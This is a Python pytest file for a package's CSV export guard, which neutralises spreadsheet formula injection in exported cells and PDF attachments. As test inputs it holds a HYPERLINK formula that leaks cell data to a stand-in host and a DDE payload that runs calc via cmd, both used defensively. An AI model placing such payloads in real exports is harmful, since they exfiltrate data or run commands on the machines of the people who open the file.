"""The one spreadsheet guard every CSV the package writes goes through (``export.csv_files``):
issue 22, item 4, formulas in the PDF's attachments."""

from __future__ import annotations

import csv
import io

import pytest
from nbformat import v4

from report_utils.briefing.record import MIMETYPE
from report_utils.export.attachments import attachments
from report_utils.export.csv_files import FORMULA_STARTS, excel_bytes, guard

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("ok = fine", "ok = fine"),
        ("-1.9", "-1.9"),
        ("-12", "-12"),
        ("-9.4%", "-9.4%"),
        ("-1.9个百分点", "'-1.9个百分点"),  # Excel would run it: =-1.9个百分点 is #NAME?
        (-0.5, -0.5),
        (3, 3),
        ("", ""),
    ],
)
def test_cells_are_neutralised_as_owasp_advises_and_numbers_stay_numbers(cell, safe):
    assert guard(cell) == safe


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_cell_and_header_of_an_excel_file_is_guarded():
    data = excel_bytes(["=col", "b"], [{"=col": DDE, "b": "-3.5"}])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    (row,) = _rows(data)
    assert row == {"'=col": "'" + DDE, "b": "-3.5"}


def test_the_pdf_attachments_carry_no_formula_from_the_data():
    """SYNTHETIC: a record whose quote, event title and indicator name are formulas."""
    record = {
        "lineage": [
            {
                "ref": "F1",
                "figure": f"{HYPERLINK}（测试省，2021年）",
                "shown": "-1.9个百分点",
                "value": "-1.9",
                "unit": "个百分点",
                "status": "reported",
                "formula": "",
                "source": "synthetic",
                "rows": "figures/a.csv:2",
                "quote": HYPERLINK,
            }
        ],
        "rows": [
            {"file": "figures/a.csv", "line": 2, "cells": {"value": "-1.9", "quote": HYPERLINK}},
            {"file": "events/b.csv", "line": 5, "cells": {"id": "ev-1", "title_zh": DDE}},
            {"file": "meta/indicators.csv", "line": 3, "cells": {"name_zh": HYPERLINK}},
        ],
    }
    nb = v4.new_notebook()
    cell = v4.new_code_cell("brief.sources()")
    cell.outputs = [v4.new_output("display_data", data={MIMETYPE: record, "text/plain": "x"})]
    nb.cells = [cell]
    csvs = {a.name: _rows(a.data) for a in attachments(nb) if a.name.endswith(".csv")}
    assert set(csvs) == {"lineage.csv", "data-figures.csv", "data-events.csv", "data-meta.csv"}
    cells = [c for rows in csvs.values() for row in rows for c in row.values()]
    assert all(not c.startswith(FORMULA_STARTS) or c == "-1.9" for c in cells), cells
    (lineage,) = csvs["lineage.csv"]
    assert lineage["quote"] == "'" + HYPERLINK  # kept, whole, behind the mark
    assert lineage["figure"] == "'" + record["lineage"][0]["figure"]
    assert lineage["value"] == "-1.9"
    assert csvs["data-events.csv"][0]["title_zh"] == "'" + DDE
